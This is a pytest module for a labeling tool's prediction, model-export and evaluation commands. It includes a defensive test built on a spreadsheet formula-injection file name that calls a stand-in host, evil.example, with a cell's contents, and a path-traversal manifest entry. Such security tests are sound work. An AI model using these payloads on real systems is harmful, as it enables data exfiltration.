"""Using what the rounds made: `tamis predict`, `tamis export-model` (merged checkpoint loaded by plain
transformers), the per-class evaluation in the round's folder, summary and `tamis status --per-class`.

One small project (two rounds of the tiny 4-bit model on the digits) is built once for the module; the new images
are crops of scikit-image's photos, never digits."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from typer.testing import CliRunner

from flows.cli import app
from pipeline.annotation.ledger import Ledger, ledger_path
from pipeline.config import load_config
from pipeline.errors import ConfigError
from pipeline.rounds import completed_rounds
from tests.test_round_flow import write_project

runner = CliRunner()
PHOTOS = ("astronaut", "coffee", "chelsea", "rocket")


@pytest.fixture(scope="module")
def project(tmp_path_factory, tiny_models, prefect_harness):
    """(config path, artifacts, round states) after two rounds: round 0 selects, round 1 trains and evaluates."""
    from flows.round import labeling_round

    root = tmp_path_factory.mktemp("use-model")
    config = write_project(root, tiny_models)
    states = [labeling_round(str(config)), labeling_round(str(config), simulate=False)]
    assert states[1]["round"] == 1 and states[1]["adapter"]
    return config, load_config(config).artifacts, states


def photo_folder(folder: Path, *, square: int | None = None) -> list[str]:
    """Crops of scikit-image photos as PNG / JPEG files with their own names (plus a file that is no image);
    `square`: crops already at the prepared size, so tamis's preparation leaves their pixels alone."""
    from skimage import data

    folder.mkdir(parents=True, exist_ok=True)
    names = []
    for i, name in enumerate(PHOTOS):
        arr = getattr(data, name)()
        h, w = arr.shape[:2]
        crop = Image.fromarray(arr[h // 4: h // 4 + 120 + 10 * i, w // 5: w // 5 + 90 + 15 * i])
        if square:
            crop = crop.resize((square, square), Image.BILINEAR)
        fmt = "PNG" if square or i % 2 == 0 else "JPEG"
        file = f"{name}.{fmt.lower()}"
        crop.save(folder / file, format=fmt)
        names.append(file)
    return names


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_predict_answers_new_images_and_reports_an_undecodable_file(project, tmp_path):
    config, art, _ = project
    answers = load_config(config).data.answers
    folder = tmp_path / "new"
    names = photo_folder(folder)
    (folder / "broken.jpg").write_bytes(b"\xff\xd8\xff\xe0 this is not a JPEG")
    out = tmp_path / "out" / "preds.csv"

    res = runner.invoke(app, ["predict", str(folder), "-c", str(config), "--out", str(out)])
    assert res.exit_code == 0, res.output
    rows = {r["file"]: r for r in read_csv(out)}
    assert sorted(rows) == sorted([*names, "broken.jpg"])
    for name in names:
        r = rows[name]
        assert r["answer"] in answers and 0 < float(r["probability"]) <= 1 and not r["error"]
        assert "round 1" in r["adapter"]
    assert rows["broken.jpg"]["answer"] == "" and rows["broken.jpg"]["error"]
    assert "skipped broken.jpg" in res.stderr and "4 images answered, 1 skipped" in res.stdout
    jsonl = {r["file"]: r for r in map(json.loads, out.with_suffix(".jsonl").read_text().splitlines())}
    dist = jsonl[names[0]]["distribution"]
    assert list(dist) == answers and sum(dist.values()) == pytest.approx(1, abs=1e-4)
    assert max(dist.values()) == pytest.approx(float(rows[names[0]]["probability"]), abs=1e-5)

    # The same adapter named by its round gives the same answers; a round without an adapter is refused.
    again = tmp_path / "again.csv"
    assert runner.invoke(app, ["predict", str(folder), "-c", str(config), "--out", str(again),
                               "--round", "1"]).exit_code == 0
    assert [r["answer"] for r in read_csv(again)] == [rows[r["file"]]["answer"] for r in read_csv(again)]
    bad = runner.invoke(app, ["predict", str(folder), "-c", str(config), "--round", "0"])
    assert isinstance(bad.exception, ConfigError) and "round 0" in str(bad.exception)
    assert "rounds with an adapter: 1" in str(bad.exception)


def test_predict_reads_a_manifest_with_questions_and_a_saved_dataset(project, tmp_path, monkeypatch):
    import datasets

    monkeypatch.setattr("pipeline.predict.CHUNK", 2)  # three rows: scored in two chunks, answered in input order
    config, art, states = project
    answers = load_config(config).data.answers
    adapter = states[1]["adapter"]["adapter_dir"]
    names = photo_folder(tmp_path / "imgs")
    manifest = tmp_path / "new.jsonl"
    rows = [{"image": f"imgs/{names[0]}", "question": "Which digit is it?"}, {"image": f"imgs/{names[1]}"},
            {"image": "../outside.png"}]
    manifest.write_text("".join(json.dumps(r) + "\n" for r in rows))
    out = tmp_path / "m.csv"
    res = runner.invoke(app, ["predict", str(manifest), "-c", str(config), "--out", str(out), "--adapter", adapter])
    assert res.exit_code == 0, res.output
    got = read_csv(out)
    assert [r["file"] for r in got[:2]] == [f"imgs/{names[0]}", f"imgs/{names[1]}"]
    assert got[0]["question"] == "Which digit is it?"
    assert got[1]["question"] == load_config(config).data.question  # the project's question when a row has none
    assert all(r["answer"] in answers for r in got[:2]) and adapter in got[0]["adapter"]
    assert got[2]["answer"] == "" and "escapes the dataset root" in got[2]["error"]

    saved = tmp_path / "saved"
    datasets.Dataset.from_list([{"image": (tmp_path / "imgs" / n).read_bytes()} for n in names[:2]]).save_to_disk(
        str(saved))
    res = runner.invoke(app, ["predict", str(saved), "-c", str(config), "--out", str(tmp_path / "d.csv")])
    assert res.exit_code == 0, res.output
    got = read_csv(tmp_path / "d.csv")
    assert len(got) == 2 and all(r["answer"] in answers and r["file"].startswith(str(saved)) for r in got)

    missing = runner.invoke(app, ["predict", str(tmp_path / "nope"), "-c", str(config)])
    assert "does not exist" in str(missing.exception)


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_predict_skips_a_row_with_a_5_mb_question_and_answers_the_others(project, tmp_path, kind):
    """Issue 46 #14: one manifest row with a 5 MB question aborted `tamis predict` (rc 1, no CSV for any row)."""
    import os

    config, _, _ = project
    answers = load_config(config).data.answers
    names = photo_folder(tmp_path / "imgs")[:3]
    rows = [{"image": f"imgs/{names[0]}", "question": "Which digit is it?"},
            {"image": f"imgs/{names[1]}", "question": "why? " * 1_000_000},
            {"image": f"imgs/{names[2]}", "question": ""}]
    manifest = tmp_path / f"new.{kind}"
    if kind == "csv":
        with open(manifest, "w", newline="", encoding="utf-8") as f:
            csv.DictWriter(f, fieldnames=["image", "question"]).writeheader()
            csv.writer(f).writerows([r["image"], r["question"]] for r in rows)
    else:
        manifest.write_text("".join(json.dumps(r) + "\n" for r in rows))
    out = tmp_path / "out" / "predictions.csv"
    proc = subprocess.run([str(Path(sys.executable).parent / "tamis"), "predict", str(manifest), "-c", str(config),
                           "--out", str(out)], capture_output=True, text=True, timeout=300, env=dict(os.environ))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    got = read_csv(out)
    assert [r["file"] for r in got] == [r["image"] for r in rows]  # every row, in input order
    assert got[0]["answer"] in answers and got[2]["answer"] in answers and not got[0]["error"]
    assert got[1]["answer"] == "" and "4,999,999 characters, over the 4,000" in got[1]["error"]
    assert len(got[1]["question"]) < 300  # the CSV does not carry the 5 MB back out
    assert "skipped imgs/" in proc.stderr and "2 images answered, 1 skipped" in proc.stdout
    rejected = read_csv(out.with_name("predictions.rejected.csv"))
    assert [(r["file"], r["reason"]) for r in rejected] == [(got[1]["file"], got[1]["error"])]
    assert str(out.with_name("predictions.rejected.csv")) in proc.stdout


def test_predictions_csv_cells_never_start_a_formula(tmp_path):
    """Issue 46 #16: predictions.csv wrote a file name like =HYPERLINK(…) raw (spreadsheet formula injection)."""
    from pipeline.csvcells import FORMULA_START
    from pipeline.predict import Prediction, write_predictions

    name = '=HYPERLINK("evil.example?c="&A1,"click").png'
    preds = [Prediction(name, "+what is it?", "@cat", 0.9, "round 1: adapter", mean_logprob=-0.105361),
             Prediction("-x.png", "q", None, None, "round 1: adapter", error="cannot decode: =bad")]
    files = write_predictions(preds, tmp_path / "predictions.csv")
    for path in (files.csv, files.rejected):
        with open(path, newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-?[\d.]+", c)], path
    got = read_csv(files.csv)
    assert got[0]["file"] == "'" + name and got[0]["answer"] == "'@cat" and got[0]["question"] == "'+what is it?"
    assert got[0]["mean_logprob"] == "-0.105361"  # a number stays a number
    assert read_csv(files.rejected) == [{"file": "'-x.png", "reason": "cannot decode: =bad"}]
    assert json.loads(files.jsonl.read_text().splitlines()[0])["file"] == name  # JSON is no spreadsheet: as is


# Plain transformers in a fresh interpreter: tamis's packages cannot be imported (the editable install's path
# entries are dropped and the names blocked), the merged folder is all it reads.
PLAIN = r"""
import json, sys
sys.path = [p for p in sys.path if p.rstrip("/") not in {roots!r} and p not in ("", ".")]
sys.modules["pipeline"] = sys.modules["flows"] = None  # an import of tamis fails
import torch
from PIL import Image
from transformers import AutoModelForImageTextToText, AutoProcessor

merged, files, answers, question = sys.argv[1], sys.argv[2:-2], json.loads(sys.argv[-2]), sys.argv[-1]
model = AutoModelForImageTextToText.from_pretrained(merged).eval()
processor = AutoProcessor.from_pretrained(merged)
tok = processor.tokenizer
user = {{"role": "user", "content": [{{"type": "image"}}, {{"type": "text", "text": question}}]}}
prompt = processor.apply_chat_template([user], add_generation_prompt=True)
first = []
for a in answers:  # each answer's first token after the prompt (the digits are one token each)
    full = processor.apply_chat_template([user, {{"role": "assistant", "content": [{{"type": "text", "text": a}}]}}])
    first.append(tok(full, add_special_tokens=False)["input_ids"][len(tok(prompt, add_special_tokens=False)["input_ids"])])
out = {{}}
for f in files:
    enc = processor(images=[[Image.open(f).convert("RGB")]], text=[prompt], return_tensors="pt")
    with torch.no_grad():
        logits = model(**enc).logits[0, -1].float()
    p = torch.softmax(torch.log_softmax(logits, -1)[first], 0)
    out[f.rsplit("/", 1)[-1]] = [answers[int(p.argmax())], float(p.max())]
print(json.dumps({{"answers": out, "tamis_loaded": sorted(m for m in sys.modules if m.split(".")[0] in ("pipeline", "flows") and sys.modules[m] is not None)}}))
"""


def test_export_model_merged_loads_in_plain_transformers_and_answers_like_predict(project, tmp_path):
    config, art, states = project
    cfg = load_config(config)
    out = tmp_path / "export"
    res = runner.invoke(app, ["export-model", "-c", str(config), "--out", str(out), "--merge"])
    assert res.exit_code == 0, res.output
    assert "merged (float32)" in res.stdout  # auto on a CPU: the fp32 tamis computes in

    adapter_cfg = json.loads((out / "adapter" / "adapter_config.json").read_text())
    assert adapter_cfg["base_model_name_or_path"] == str(Path(cfg.model.name_or_path).resolve())
    assert (out / "adapter" / "adapter_model.safetensors").is_file()
    assert (out / "adapter" / "chat_template.jinja").is_file() or "chat_template" in json.loads(
        (out / "adapter" / "processor_config.json").read_text())
    card = (out / "README.md").read_text()
    assert card.startswith("---\nbase_model: " + str(Path(cfg.model.name_or_path).resolve()))
    assert "- labels: **6**" in card and "this adapter is round 1's; 2 rounds finished" in card
    assert "mode: **qlora**" in card and "Accuracy **" in card and "95% CI" in card
    lineage = json.loads((out / "lineage.json").read_text())
    ledger = {e["entry_id"]: e for e in Ledger(ledger_path(art)).entries()}
    assert lineage["counts"] == {"labels": 6, "from_ledger": 6, "seed": 0}
    assert {r["entry_id"] for r in lineage["labels"]} == set(ledger)
    assert all(r["source_digest"] == ledger[r["entry_id"]]["source_digest"] for r in lineage["labels"])
    assert lineage["adapter"]["digest"] == states[1]["adapter"]["adapter_digest"]
    merged_cfg = json.loads((out / "merged" / "config.json").read_text())
    assert "quantization_config" not in merged_cfg

    folder = tmp_path / "squares"
    names = photo_folder(folder, square=32)  # the demo project's preprocess.size
    preds = tmp_path / "p.csv"
    assert runner.invoke(app, ["predict", str(folder), "-c", str(config), "--out", str(preds)]).exit_code == 0
    tamis = {r["file"]: (r["answer"], float(r["probability"])) for r in read_csv(preds)}

    roots = tuple(str(Path(p).resolve()) for p in (Path(__file__).parents[1], "/work/main"))
    proc = subprocess.run([sys.executable, "-c", PLAIN.format(roots=roots), str(out / "merged"),
                           *(str(folder / n) for n in names), json.dumps(cfg.data.answers), cfg.data.question],
                          capture_output=True, text=True, timeout=300, cwd=tmp_path, env={"HF_HUB_OFFLINE": "1",
                                                                           "TRANSFORMERS_OFFLINE": "1",
                                                                           "PATH": "/usr/bin:/bin"})
    assert proc.returncode == 0, proc.stderr[-3000:]
    plain = json.loads(proc.stdout.strip().splitlines()[-1])
    assert plain["tamis_loaded"] == []
    assert {n: a for n, (a, _) in plain["answers"].items()} == {n: a for n, (a, _) in tamis.items()}
    # Not to the last digit: bitsandbytes' CPU 4-bit matmul rounds like bf16 (0.4 % of a layer's output measured
    # against x @ dequantize(W).T in fp32), the merged fp32 model does not.
    for n, (_, p) in plain["answers"].items():
        assert p == pytest.approx(tamis[n][1], abs=0.03)


def test_the_evaluation_folder_holds_per_class_metrics_shown_in_the_summary_and_status(project):
    config, art, states = project
    eval_dir = Path(states[1]["eval_dir"])
    assert completed_rounds(art)[1]["eval_dir"] == str(eval_dir)
    pc = json.loads((eval_dir / "per_class.json").read_text())
    assert list(pc) == ["answers", "per_class", "confusion", "confusion_columns", "accuracy", "accuracy_ci95",
                        "macro_f1", "macro_f1_ci95", "n", "bootstrap"]
    assert pc["answers"] == [str(d) for d in range(10)] and pc["confusion_columns"] == pc["answers"]
    assert np.array(pc["confusion"]).sum() == pc["n"] == sum(r["support"] for r in pc["per_class"])
    assert pc["accuracy"] == pytest.approx(states[1]["metrics"]["accuracy"])
    assert pc["accuracy_ci95"][0] <= pc["accuracy"] <= pc["accuracy_ci95"][1]
    assert (eval_dir / "confusion.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    summary = (art / "rounds" / "001" / "summary.md").read_text()
    assert "## Per-class results" in summary and "| answer | precision | recall | F1 | support |" in summary
    assert str(eval_dir / "confusion.png") in summary
    # The metrics log carries each metric's interval, so the learning curve can draw it.
    from pipeline.metrics import read_metrics

    assert [m["ci95"] for m in read_metrics(art) if m["metric"] == "accuracy"] == [pc["accuracy_ci95"]]

    res = runner.invoke(app, ["status", "-c", str(config), "--per-class"])
    assert res.exit_code == 0, res.output
    assert "per-class results (round 1" in res.stdout and "precision" in res.stdout and "macro-F1" in res.stdout
    for r in pc["per_class"]:
        assert f"{r['recall']:.3f}" in res.stdout
